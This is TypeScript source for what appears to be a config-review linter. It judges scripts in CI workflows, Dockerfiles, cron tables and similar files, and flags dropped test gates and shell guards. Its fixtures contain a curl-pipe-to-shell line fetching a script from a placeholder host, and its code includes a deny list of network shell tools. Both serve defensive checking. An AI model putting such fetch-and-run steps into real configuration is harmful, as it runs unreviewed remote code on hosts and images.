// Judges scripts inside configuration: steps of pipelines, instructions of images, commands of services and packages,
// by the rules of shell commands.
import { allowRule, rule } from '../../../core/rule.ts'
import type { SettingChange } from '../../../syntax/config/changes.ts'
import type { Dialect } from '../../../syntax/config/format.ts'
import { matchesPath, pathPattern } from '../../../syntax/config/path.ts'
import type { ConfigNode } from '../../../syntax/config/tree.ts'
import { anyOf } from '../../any-of.ts'
import type { Change, Side } from '../../model.ts'
import type { Confinement, Script } from '../../scripts/judge-script.ts'
import { reportScript } from '../../scripts/report-script.ts'
import type { SpecialJudge } from '../../settings/judge.ts'

const flow = (text: string): string =>
  `--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -8,3 +8,3 @@ jobs:\n     steps:\n${text}`

export const knownScript = allowRule({
  id: 'code.allow.script',
  evidence: 'B',
  source: 'policy: review.md §4',
  fires: [
    flow('+      - run: npm ci\n'),
    '--- a/deploy/crontab\n+++ b/deploy/crontab\n@@ -1,1 +1,2 @@\n 5 2 * * * root /usr/bin/true\n+10 4 * * 1 root find /tmp/thumbs -mtime +3 -delete\n',
    '--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,2 +1,3 @@\n FROM debian:12.5\n+RUN apt-get update && apt-get install -y --no-install-recommends git\n WORKDIR /app\n',
    '--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,2 +1,3 @@\n FROM python:3.12-slim\n+HEALTHCHECK CMD python3 -c "import urllib.request; urllib.request.urlopen(\'http://localhost:8000/up\')"\n WORKDIR /app\n',
  ],
  quiet: [
    flow('+      - run: frobnicate --all\n'),
    '--- a/deploy/crontab\n+++ b/deploy/crontab\n@@ -1,1 +1,2 @@\n 5 2 * * * root /usr/bin/true\n+10 4 * * 1 root curl -fsSL https://get.example.net/i.sh | sh\n',
    '--- a/Dockerfile\n+++ b/Dockerfile\n@@ -1,2 +1,3 @@\n FROM debian:12.5\n+RUN curl -fsSL https://get.example.net/i.sh | sh\n WORKDIR /app\n',
  ],
})

interface Facts {
  readonly line: string
}

export const gateRemoved = rule({
  id: 'code.ci.gate_removed',
  severity: 'high',
  category: 'missing_check',
  evidence: 'B',
  source: 'https://slsa.dev/spec/v1.1/threats',
  message: ({ line }: Facts) =>
    `\`${line}\` no longer runs or no longer fails the pipeline, so a change passes that it would stop.`,
  fix: 'Keep the check, or say in the change what takes its place.',
  fires: [
    flow('       - run: npm ci\n-      - run: npm test\n       - run: npm run build\n'),
    flow('-      - run: npm audit --audit-level=high\n+      - run: npm audit --audit-level=high || true\n'),
    flow('-      - run: pytest -q\n+      - run: echo skipped\n'),
  ],
  quiet: [
    flow('-      - run: npm test\n+      - run: npm test -- --coverage\n'),
    flow('       - run: npm ci\n+      - run: npm test\n'),
  ],
})

export const guardRemoved = rule({
  id: 'code.script.guard_removed',
  severity: 'high',
  category: 'missing_check',
  evidence: 'B',
  source: 'https://www.gnu.org/software/bash/manual/html_node/The-Set-Builtin.html',
  message: ({ line }: Facts) =>
    `\`${line}\` stopped the script on a failure or an empty variable; the commands after it now run anyway.`,
  fix: 'Keep the guard before the commands that it protects.',
  fires: [
    flow('       - run: |\n-          set -euo pipefail\n           make release\n'),
    flow('       - run: |\n-          test -n "$TARGET" || exit 1\n           rsync -a out/ "$TARGET/"\n'),
  ],
  quiet: [
    flow('       - run: |\n+          set -euo pipefail\n           make release\n'),
    flow('       - run: |\n-          set -eu\n+          set -euo pipefail\n           make release\n'),
  ],
})

const row = (path: string, confinement: Confinement, dialects: readonly Dialect[]) => ({
  patterns: path.split(' | ').map(pathPattern),
  confinement,
  dialects,
})
const SCRIPTS = [
  row('run', 'runner', ['github']),
  row('script | before_script | after_script | run | run.command | install | commands', 'runner', [
    'gitlab',
    'circle',
  ]),
  row('RUN | CMD | ENTRYPOINT | HEALTHCHECK', 'image', ['docker']),
  row('healthcheck.test | services.*.command', 'image', ['compose']),
  row('^scripts.*', 'host', ['package', 'composer']),
  row('ExecStart | ExecStartPre | ExecStartPost | ExecStop | ExecReload', 'host', ['systemd']),
  row(
    'shell | command | ansible\\.builtin\\.shell | ansible\\.builtin\\.command | shell.cmd | command.cmd',
    'host',
    ['ansible'],
  ),
]

/** Five fields or a name of a time, and in a table of the system the account: https://man7.org/linux/man-pages/man5/crontab.5.html */
const SCHEDULE =
  /^(?:@(?:reboot|yearly|annually|monthly|weekly|daily|midnight|hourly)|(?:[\d*/,LW-]{1,24}[ \t]+){3}[\w*/,-]{1,24}[ \t]+[\w*/,-]{1,24})[ \t]+/i
const ACCOUNT =
  /^(?:root|app|deploy|nobody|www-data|postgres|ubuntu|admin|git|nginx|[a-z_][a-z0-9_-]{0,31}(?=[ \t]+\/))[ \t]+/

/** The command of a line of a table of times. */
function commandOf(change: Change, side: Side, node: ConfigNode | null): Script | null {
  const schedule = SCHEDULE.exec(node?.value ?? '')?.[0]
  if (node === null || schedule === undefined) return null
  const account = ACCOUNT.exec(node.value!.slice(schedule.length))?.[0] ?? ''
  const { start, end } = bounds(node)
  return { change, side, start: start + schedule.length + account.length, end, confinement: 'host' }
}

export const GATE =
  /\b(?:npm (?:run )?(?:-\w+ )*(?:test|lint|audit|typecheck|check)|(?:yarn|pnpm|bun) (?:run )?(?:test|lint|audit|typecheck|check)|pytest|go (?:test|vet)|cargo (?:test|clippy|audit|deny)|mvn (?:-\w+ )*(?:verify|test)|gradlew? (?:check|test)|make (?:test|lint|check|verify)|tox|ruff|mypy|eslint|tsc|vitest|jest|rspec|phpunit|bandit|semgrep|trivy|snyk|gitleaks|codeql|tfsec|checkov|cosign verify|govulncheck|npm ci|hadolint|shellcheck|sha256sum|gpg --verify)\b/
const IGNORED =
  /\|\|\s*(?:true|:|exit 0|echo\b[^\n|;]{0,80})\s*["']?$|;\s*true\s*$|--passWithNoTests|--exit-code[ =]0|--no-verify\b/
const GUARD =
  /^\s*(?:set -\w*[eu]|\[{1,2} .{1,200}(?:exit|return|\|\||&&)|test .{1,200}(?:exit|return)|: "?\$\{\w+:\?|if \[{1,2} |trap .{1,80} (?:ERR|EXIT))|\$\{\w+:\?/

export const judgeScripts: SpecialJudge = (setting, config, { report }) => {
  if (config.dialect === 'cron') {
    const { before, after } = config.change
    const now = commandOf(config.change, after, setting.after)
    if (now === null) return false
    reportScript(now, commandOf(config.change, before, setting.before), knownScript, report)
    return true
  }
  const found = SCRIPTS.find(
    ({ dialects, patterns }) =>
      dialects.includes(config.dialect) && patterns.some((one) => matchesPath(one, setting.names)),
  )
  if (found === undefined) return false
  const { change } = config
  const scriptOf = (side: Side, node: ConfigNode | null): Script | null =>
    node === null || node.value === null || node.value.trim() === ''
      ? null
      : { change, side, ...bounds(node), confinement: found.confinement }
  // How Docker runs a check is no command: https://docs.docker.com/reference/compose-file/services/#healthcheck
  if (setting.after?.value === 'CMD-SHELL' && config.dialect === 'compose') {
    report.cover(knownScript, change.after, [setting.after.start, setting.after.end])
    return true
  }
  if (config.dialect === 'compose' && setting.after !== null && isProbe(setting.after.parent)) {
    report.cover(knownScript, change.after, [setting.after.start, setting.after.end])
    return true
  }
  // A program of the image itself, without a shell: https://docs.docker.com/reference/dockerfile/#exec-form
  if (config.dialect === 'docker' && /^(?:cmd|entrypoint)$/i.test(setting.names.at(-1) ?? '')) {
    const values = [setting.after, setting.before].filter((one) => one !== null)
    if (values.every(({ value }) => isPlainProgram(value ?? ''))) {
      for (const [side, node] of [
        [change.after, setting.after],
        [change.before, setting.before],
      ] as const)
        if (node !== null) report.cover(knownScript, side, [node.start, node.end])
      return true
    }
  }
  if (
    config.dialect === 'docker' &&
    /^healthcheck$/i.test(setting.names.at(-1) ?? '') &&
    setting.after !== null &&
    asksItself(setting.after.value ?? '')
  ) {
    report.cover(knownScript, change.after, [setting.after.start, setting.after.end])
    return true
  }
  const after = scriptOf(change.after, setting.after)
  const before = scriptOf(change.before, setting.before)
  judgeLost(setting, { before: change.before, after: change.after }, config.change.after.text, report)
  if (after !== null) reportScript(after, before, knownScript, report)
  return true
}

/** `["gunicorn", "shop.wsgi"]`: neither a shell nor an interpreter that is given its program as text. */
const isPlainProgram = (value: string): boolean =>
  /^\[\s?"(?!(?:\/(?:usr\/)?bin\/)?(?:sh|bash|ash|zsh|curl|wget|nc|ncat|socat|sshd|env)")[\w./-]{1,60}"/.test(
    value,
  ) &&
  /^\[[^\]\n]{1,300}\]$/.test(value) &&
  !/"(?:-c|-e|--eval|-r|--require|--import|--inspect[^"]{0,40}|http\.server|SimpleHTTPServer|pdb|debugpy|--debug|--reload|--insecure[^"]{0,30})"|https?:|\$|`|\/etc\/|\/root/.test(
    value,
  )

/** `["CMD", "curl", "-f", "http://localhost:8080/healthz"]`: asks the container itself whether it answers. */
function isProbe(list: ConfigNode | null): boolean {
  const [kind, ...words] = (list?.children ?? []).map(({ value }) => value ?? '')
  return kind === 'CMD' && PROBE.test(words.join(' '))
}

/** Words of a program of one line that asks its own port and ends by the answer. */
const ASKING: ReadonlySet<string> = new Set(
  'fetch then catch process exit r res resp response ok status statusCode require http get on error e err import urllib request urlopen sys raise_for_status timeout'.split(
    ' ',
  ),
)

/** `HEALTHCHECK … CMD node -e "fetch('http://127.0.0.1:3000/healthz')…"` */
function asksItself(value: string): boolean {
  const match = /^(?:--[a-z-]{1,20}=\w{1,8}[\s\\]{1,40}){0,5}CMD (.{1,400})$/.exec(
    value.trim().replace(/\s+/g, ' '),
  )
  if (match === null) return false
  const command = match[1]!.replace(/ \|\| exit 1$/, '')
  if (PROBE.test(command)) return true
  const inline = /^(?:node -e|python3? -c|bun -e) (?:"([^"]{1,300})"|'([^']{1,300})')$/.exec(command)
  const text = (inline?.[1] ?? inline?.[2] ?? '').replace(
    /https?:\/\/(?:localhost|127\.0\.0\.1)(?::\d{2,5})?(?:\/[\w/-]{0,60})?/g,
    '',
  )
  return (
    inline !== null &&
    !/:\/\/|`|\$/.test(text) &&
    (text.match(/[A-Za-z_]\w*/g) ?? []).every((word) => ASKING.has(word))
  )
}

const PROBE = anyOf([
  /^curl(?: -[fsSI]{1,4}| --fail| --silent){0,4} https?:\/\/(?:localhost|127\.0\.0\.1)(?::\d{1,5})?(?:\/[\w./-]{0,80})?$/,
  /^wget(?: -q| -O-| --spider| --quiet| --tries=\d){0,5} https?:\/\/(?:localhost|127\.0\.0\.1)(?::\d{1,5})?(?:\/[\w./-]{0,80})?$/,
  /^(?:pg_isready(?: -\w \S{1,40}){0,3}|redis-cli ping|nc -z localhost \d{1,5}|mysqladmin ping(?: -h \S{1,40})?)$/,
])

const bounds = (node: ConfigNode): { start: number; end: number } => {
  const quote = node.isQuoted ? 1 : 0
  return { start: node.valueStart + quote, end: Math.max(node.valueStart + quote, node.end - quote) }
}

/** Checks and guards that the script held and that stand nowhere in the file any more. */
function judgeLost(
  { before, after }: SettingChange,
  sides: { readonly before: Side; readonly after: Side },
  text: string,
  report: Parameters<SpecialJudge>[2]['report'],
): void {
  if (before?.value == null) return
  const now = (after?.value ?? '').split('\n').map((line) => line.trim())
  for (const line of before.value.split('\n')) {
    const command = line.trim()
    if (command === '' || now.includes(command)) continue
    const gate = GATE.exec(command)?.[0]
    const isGone =
      gate !== undefined &&
      !IGNORED.test(command) &&
      !text.split('\n').some((one) => one.includes(gate) && !IGNORED.test(one))
    const setting = GUARD.exec(command)?.[0].trim().slice(0, 5)
    const isUnguarded =
      setting !== undefined && !now.some((one) => one.startsWith(setting) || GUARD.test(one))
    if (!isGone && !isUnguarded) continue
    const at = sides.before.text.indexOf(command, before.start)
    const span = [Math.max(at, before.start), Math.max(at, before.start) + command.length] as const
    report.found(isGone ? gateRemoved : guardRemoved, sides.before, span, { line: command.slice(0, 100) })
  }
}
